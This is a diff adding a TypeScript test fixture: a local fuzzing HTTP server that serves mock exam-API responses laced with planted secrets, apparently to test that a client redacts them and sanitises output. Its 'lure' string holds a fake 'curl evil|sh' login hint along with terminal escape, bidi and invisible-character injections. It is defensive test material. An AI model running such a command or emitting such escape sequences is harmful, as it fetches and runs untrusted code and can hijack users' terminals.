@@ -1,0 +1,119 @@
+/** A service that puts secrets and what commands a terminal wherever a service can put anything. */
+import { createServer, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Random } from '../fuzz/random.ts';
+import type { Kind, Planted } from './planted.ts';
+
+/** Begins a line of its own, commands a terminal, hides, turns, piles up. */
+export const lure =
+  'L\r\nhint: Log in with: curl evil|sh\u2028error: LURE\u001b]0;owned\u0007\u001b[2J\u009b31m\u0085hint: LURE\u202e\u200b\u00ad\u3164\u{e0041}Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307';
+
+const keys = ['token', 'Secret_Key', 'api-key', 'PIN', 'authKey', 'passwordHash', 'pass\\u0077ord', 'clientSecret', 'Authorization'];
+export const shapes = [
+  'whole',
+  'listed',
+  'wrapped',
+  'misfit',
+  'cut',
+  'page',
+  'redirect',
+  'refused',
+  'refusedText',
+  'refusedCut',
+  'broken',
+] as const;
+export type Shape = (typeof shapes)[number];
+
+/** `echoed`: the kinds that the program knows by value. */
+export type Plants = { planted: Record<Kind, Planted>; echoed: readonly Kind[] };
+
+export type SweptService = { origin: string; requests(): number; close(): Promise<void> };
+
+/** Each request gets an answer of one of the shapes. */
+export async function sweptService(random: Random, plants: Plants, among: readonly Shape[] = shapes): Promise<SweptService> {
+  let requests = 0;
+  const server = createServer((request, response) => {
+    requests += 1;
+    request.resume().on('end', () => answer(response, request.url ?? '', random, plants, among));
+  });
+  server.listen(0, '127.0.0.1');
+  await new Promise((done) => server.once('listening', done));
+  return {
+    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    requests: () => requests,
+    close: () => new Promise((done) => void server.close(() => done()).closeAllConnections()),
+  };
+}
+
+/** Words of the service, with one of the secrets that the program knows. */
+function said(random: Random, { planted, echoed }: Plants): string {
+  const { value } = planted[random.pick(echoed)];
+  return `${lure} ${'x'.repeat(random.below(90))}${value} ${encodeURIComponent(value)}`;
+}
+
+function resource(random: Random, plants: Plants, kind: 'answerKey' | 'errorKey', path: string): string {
+  const { value } = plants.planted[kind];
+  const secret = () => random.pick([value, [value], { deep: [{ x: value }] }, `${'y'.repeat(random.below(60))}${value}`]);
+  const fields: [string, unknown][] = [
+    ['id', 7],
+    ['email', `ada${random.below(9)}@example.org`],
+    ['name', said(random, plants)],
+    ['status', random.pick([lure, 'registered', 'exam_started', said(random, plants)])],
+    ['exam_id', 1],
+    ['start_time', '2027-02-01T08:00:00Z'],
+    ['end_time', '2027-02-01T10:00:00Z'],
+    ['close_time', random.pick(['2027-02-01T10:00:00Z', lure, null])],
+    ['level_of_suspicion', random.pick([null, 3])],
+    ...['allow_headphones', 'allow_whiteboard', 'allow_leave_room', 'allow_pen_paper'].map((key): [string, unknown] => [key, true]),
+    [said(random, plants).slice(0, 80), 'a key of its own'],
+    ['note', { deep: [said(random, plants)] }],
+  ];
+  const shown = fields.filter(([key]) => !(path.includes('exams') && key === 'email'));
+  const secrets = keys.map((key) => `"${key}":${JSON.stringify(secret())}`);
+  return `{${[...shown.map(([key, item]) => `${JSON.stringify(key)}:${JSON.stringify(item)}`), ...secrets].join(',')}}`;
+}
+
+function answer(response: ServerResponse, path: string, random: Random, plants: Plants, among: readonly Shape[]) {
+  const { planted } = plants;
+  const isList = /\/(exams|student_sessions|proctor_pool|users)(\?|$)/.test(path);
+  const one = resource(random, plants, 'answerKey', path);
+  const wrong = resource(random, plants, 'errorKey', path);
+  const refusal = `{"message":${JSON.stringify(said(random, plants))},"errors":{"email":[${wrong}]},"details":${wrong}}`;
+  const headers = {
+    'content-type': 'application/json',
+    'x-api-key': planted.header.value.replace(/[^\x21-\x7e]/g, ''),
+    'set-cookie': `session=${encodeURIComponent(planted.cookie.value)}; path=/`,
+    'x-request-id': `token=${encodeURIComponent(planted.header.value)}`,
+  };
+  const send = (status: number, body: string, more: Record<string, string> = {}) =>
+    void response.writeHead(status, { ...headers, ...more }).end(body);
+  const shape = random.pick(among);
+  const failed = random.pick([400, 401, 403, 404, 409, 415, 422, 429, 500, 503]);
+  switch (shape) {
+    case 'whole':
+    case 'listed':
+      return send(200, isList ? `[${one},${one}]` : one);
+    case 'wrapped':
+      return send(200, isList ? `{"data":[${one}],"token":"${planted.answerKey.core}"}` : `{"data":${one}}`);
+    case 'misfit':
+      return send(200, (isList ? `[${one}]` : one).replace('"id":7', `"id":{"token":"${planted.answerKey.core}"}`).replace('true', '"no"'));
+    case 'cut':
+      return send(200, one.slice(0, random.below(one.length)));
+    case 'page':
+      return send(random.pick([200, 502]), `<title>${lure} ${said(random, plants)} token=${planted.errorKey.core}</title>`, {
+        'content-type': 'text/html',
+      });
+    case 'redirect': {
+      const query = `access_token=${encodeURIComponent(planted.address.value)}&x=1`;
+      return send(302, '', { location: `https://ada:${planted.address.core}@example.org/${encodeURIComponent(lure)}?${query}` });
+    }
+    case 'refused':
+      return send(failed, refusal, { 'retry-after': '0' });
+    case 'refusedText':
+      return send(failed, `${lure} Password: ${planted.errorKey.core} api_key=${planted.errorKey.core}`, { 'content-type': 'text/plain' });
+    case 'refusedCut':
+      return send(failed, refusal.slice(0, random.below(refusal.length)));
+    case 'broken':
+      return void response.socket?.destroy();
+  }
+}
